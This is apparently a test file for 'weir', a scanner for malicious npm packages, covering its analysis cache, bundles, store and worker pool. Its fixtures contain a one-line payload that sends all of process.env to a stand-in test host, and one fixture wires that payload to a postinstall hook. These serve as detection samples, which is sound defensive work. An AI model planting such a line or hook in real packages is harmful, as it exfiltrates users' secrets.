import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SAMPLES } from '@weir/detectors/samples';
import type { ReleaseContext } from '@weir/model';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { analyzeArtifact } from './analyze.ts';
import type { ArtifactAnalysis } from './api.ts';
import { createFactsMemory, type FactsKind, type FactsSession, openFactsSession } from './facts-cache.ts';
import { BUNDLE_BYTES_MAX, packBundle, unpackBundle } from './facts-cache-bundle.ts';
import { createJsAnalyzer } from './facts-cache-js.ts';
import { createFactsStore } from './facts-cache-store.ts';
import { createMemoryView } from './memory-view.ts';
import { createAnalysisPool } from './pool.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

const dir = mkdtempSync(join(tmpdir(), 'weir-facts-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const MEMORY_BYTES = 1024 * 1024;

function session(previous?: FactsSession): FactsSession {
  // Through the packed form: what the disk would give back.
  previous?.close();
  const packed = previous && packBundle(previous.used);
  return openFactsSession(createFactsMemory(MEMORY_BYTES), () => (packed ? unpackBundle(packed) : new Map()));
}

/** A result without its times. */
type Timeless = Omit<ArtifactAnalysis, 'elapsedMs' | 'factsMs'>;

function timeless({ elapsedMs, factsMs = 0, ...result }: ArtifactAnalysis): Timeless {
  expect([elapsedMs, factsMs].every((ms) => ms >= 0)).toBe(true);
  return result;
}

async function analyze(files: Files, facts: FactsSession | null): Promise<Timeless> {
  await using view = createMemoryView(files);
  const result = await analyzeArtifact(
    view,
    { ecosystem: 'npm', filename: 'x.tgz', context: null },
    {
      layout: 'directory',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
      analyzeJs: createJsAnalyzer(facts, 'test'),
    },
  );
  return timeless(result);
}

const ALL_SAMPLES = Object.entries(SAMPLES).flatMap(([id, { malicious, benign }]) =>
  [...malicious, ...benign].map((sample) => [`${id}: ${sample.name}`, sample.files] as const),
);

/** Three analyses; a program that goes round until its budget is spent takes 2 s of processor time for each. */
const SAME_MS_MAX = 60_000;

describe('a result is the same', () => {
  test.each(ALL_SAMPLES)(
    'without a cache, with a cold and with a warm one: %s',
    async (_name, files) => {
      const without = await analyze(files, null);
      const first = session();
      expect(await analyze(files, first)).toEqual(without);

      const second = session(first);
      expect(await analyze(files, second)).toEqual(without);
      expect(second.misses).toBe(0);
      expect(second.hits).toBeGreaterThanOrEqual(first.misses);
    },
    SAME_MS_MAX,
  );
});

test.each([
  ['ASCII', 'exports.a = 1;\n'],
  ['more than ASCII', 'exports.a = "\u00e4 \ud83d\ude00";\n'],
  ['a byte order mark', '\ufeffexports.a = 1;\n'],
])('a file has the facts of its text: %s', async (_name, text) => {
  const first = session();
  createJsAnalyzer(first, 'test')(text.replace('\ufeff', ''), { typescript: false, parts: false });
  expect([first.hits, first.misses]).toEqual([0, 1]);

  const second = session(first);
  await analyze({ 'package.json': '{"name":"x","version":"1.0.0"}', 'index.js': text }, second);
  expect([second.hits, second.misses]).toEqual([1, 0]);
});

describe('stage and verdict are never kept', () => {
  const PAYLOAD = `require('https').get('https://a.weir.test/' + JSON.stringify(process.env));`;
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0' });
  const dead: Files = { 'package.json': manifest, 'index.js': 'exports.a = 1;', 'lib/p.js': PAYLOAD };
  const alive: Files = { ...dead, 'index.js': `exports.a = 1; require('./lib/p');` };

  test('a payload that was shipped dead is found once a changed line loads it, though its facts are cached', async () => {
    const memory = createFactsMemory(MEMORY_BYTES);
    const none = (): ReadonlyMap<string, Uint8Array> => new Map();
    // Another package runs the same file: from here on its facts are in the process' memory.
    const other = { 'package.json': manifest, 'index.js': PAYLOAD };
    await analyze(other, openFactsSession(memory, none));

    const before = await analyze(dead, openFactsSession(memory, none));
    expect(before.judgement.verdict).toBe('benign');

    const facts = openFactsSession(memory, none);
    const after = await analyze(alive, facts);
    expect(facts).toMatchObject({ hits: 1, misses: 1 });
    expect(after).toEqual(await analyze(alive, null));
    expect(after.judgement.verdict).toBe('suspicious');
    expect(after.findings[0]).toMatchObject({ stage: 'import', location: { file: 'lib/p.js' } });
  });

  test('a file that a hook comes to run is looked at for install though it was known from use', async () => {
    const files: Files = { ...dead, 'package.json': JSON.stringify({ name: 'x', bin: 'lib/p.js' }) };
    const hooked = { ...files, 'package.json': JSON.stringify({ scripts: { postinstall: 'node lib/p' } }) };
    const first = session();
    await analyze(files, first);
    const result = await analyze(hooked, session(first));
    expect(result).toEqual(await analyze(hooked, null));
    expect(result.findings[0]).toMatchObject({ stage: 'install', severity: 'critical' });
  });
});

describe('a session', () => {
  const kind: FactsKind<{ n: number }> = {
    id: 'n',
    pack: (facts) => facts,
    unpack: (packed) => packed as { n: number },
  };

  test('computes what is damaged as if it had never been kept', () => {
    const damaged = new Map([['a n', Buffer.from('no facts')]]);
    const facts = openFactsSession(createFactsMemory(MEMORY_BYTES), () => damaged);
    expect(facts.getOrCompute('a', kind, () => ({ n: 1 }))).toEqual({ n: 1 });
    expect(facts).toMatchObject({ hits: 0, misses: 1 });
  });

  test('gives each caller an object of its own', () => {
    const facts = session();
    const first = facts.getOrCompute('a', kind, () => ({ n: 1 }));
    first.n = 2;
    expect(facts.getOrCompute('a', kind, () => ({ n: 3 }))).toEqual({ n: 1 });
  });

  test('keeps kinds apart', () => {
    const facts = session();
    facts.getOrCompute('a', kind, () => ({ n: 1 }));
    expect(facts.getOrCompute('a', { ...kind, id: 'm' }, () => ({ n: 2 }))).toEqual({ n: 2 });
  });

  test('notes outlive a release, by the rules that they were taken under, and only new ones are worth keeping', () => {
    const first = session();
    const notes = first.notes('a', 'asked by rules 1');
    expect(notes.get('question')).toBeUndefined();
    notes.set('question', null);
    expect(first.close()).toBe(true);

    const second = session(first);
    expect(second.notes('a', 'asked by rules 1').get('question')).toBeNull();
    expect(second.close()).toBe(false);
    expect([...second.used.keys()]).toEqual(['a asked by rules 1']);
    expect(second.notes('a', 'asked by rules 2').get('question')).toBeUndefined();
    expect(second.notes('b', 'asked by rules 1').get('question')).toBeUndefined();
  });

  test('memory stays under its cap, and what was used last stays', () => {
    const memory = createFactsMemory(10_000);
    for (let i = 0; i < 100; i++) {
      memory.set(`k${i}`, new Uint8Array(700));
      memory.get('k0');
    }
    const kept = Array.from({ length: 100 }, (_, i) => memory.get(`k${i}`)).filter(Boolean);
    expect(kept).toHaveLength(10);
    expect(memory.get('k0')).toBeDefined();
    expect(memory.get('k1')).toBeUndefined();
  });
});

describe('bundles', () => {
  test('what is damaged, cut or of another format holds nothing', () => {
    const packed = packBundle(new Map([['a js', Buffer.from('facts')]])) ?? new Uint8Array();
    expect([...unpackBundle(packed)]).toEqual([['a js', Buffer.from('facts')]]);
    const changed = Buffer.from(packed);
    changed[changed.length - 6] = (changed[changed.length - 6] ?? 0) ^ 1;
    for (const bytes of [changed, packed.subarray(0, -3), Buffer.from('x'), new Uint8Array()]) {
      expect(unpackBundle(bytes).size).toBe(0);
    }
  });

  test('entries over the cap are left out', () => {
    const large = new Map(Array.from({ length: 5 }, (_, i) => [`${i}`, Buffer.alloc(10 * 1024 * 1024)]));
    expect(unpackBundle(packBundle(large) ?? new Uint8Array()).size).toBe(3);
  });
});

describe('the store', () => {
  function files(root: string): string[] {
    return readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((path) =>
      /[0-9a-f]{60}/.test(path),
    );
  }

  test('keeps one bundle a package, below its cap, and nothing of other engines', async () => {
    const root = join(dir, 'store');
    const old = createFactsStore({ dir: root, engineVersion: 'old', bytesMax: 10_000 });
    await old.put('npmjs/a', new Uint8Array(100));
    const store = createFactsStore({ dir: root, engineVersion: 'new', bytesMax: 10_000 });
    for (let i = 0; i < 40; i++) await store.put(`npmjs/p${i}`, new Uint8Array(1000));
    await store.put('npmjs/p39', new Uint8Array(10));
    expect(readdirSync(root)).toEqual(['new']);
    expect(files(root).length).toBeLessThanOrEqual(11);
    expect(files(root).length).toBeGreaterThanOrEqual(8);
  });

  test('takes no bundle over the cap, and does not fail where it cannot write', async () => {
    const root = join(dir, 'full');
    const store = createFactsStore({ dir: root, engineVersion: 'e', bytesMax: 10_000 });
    await store.put('npmjs/a', new Uint8Array(BUNDLE_BYTES_MAX + 1));
    expect(() => readdirSync(root)).toThrow();
    writeFileSync(root, 'a file where the folder should be');
    await store.put('npmjs/a', new Uint8Array(1));
    expect(readdirSync(dir)).toContain('full');
  });
});

describe('the pool', () => {
  function context(name: string, version: string): ReleaseContext {
    const release = {
      registry: 'npmjs',
      ecosystem: 'npm',
      name,
      displayName: name,
      version,
      purl: `pkg:npm/${name}@${version}`,
    } as const;
    return { release, facts: null, dependencies: [] };
  }

  test('keeps facts by the package that the registry names, and a next release is judged the same with them', async () => {
    const factsDir = join(dir, 'pool');
    const options = { workersMax: 1, memoryMbMax: 256, deadlineMs: 20_000, idleMs: 10 };
    const attack = `require('https').get('https://a.weir.test/' + JSON.stringify(process.env));`;
    const build = (main: string): Buffer =>
      tarball()
        .file('package/package.json', JSON.stringify({ name: 'somebody-else' }))
        .file('package/index.js', main)
        .file('package/b.js', attack)
        .build();
    writeFileSync(join(dir, '1.tgz'), build('exports.a = 1'));
    writeFileSync(join(dir, '2.tgz'), build(`require('./b')`));
    const request = (version: string) => ({
      path: join(dir, `${version}.tgz`),
      filename: `${version}.tgz`,
      ecosystem: 'npm' as const,
      context: context('mine', version),
    });
    const never = new AbortController().signal;

    await using pool = createAnalysisPool({ ...options, factsDir });
    expect((await pool.analyze(request('1'), never)).judgement.verdict).toBe('benign');
    const [engine = ''] = readdirSync(factsDir);
    const store = createFactsStore({ dir: factsDir, engineVersion: engine, bytesMax: 1 });
    const kept = readdirSync(factsDir, { recursive: true, encoding: 'utf8' });
    expect(kept.map((path) => join(factsDir, path))).toContain(store.pathOf('npmjs/mine'));
    expect(kept).toHaveLength(3);

    const result = timeless(await pool.analyze(request('2'), never));
    await using plain = createAnalysisPool(options);
    const expected = timeless(await plain.analyze(request('2'), never));
    expect(result).toEqual(expected);
    expect(result.judgement.verdict).toBe('suspicious');
  });
});
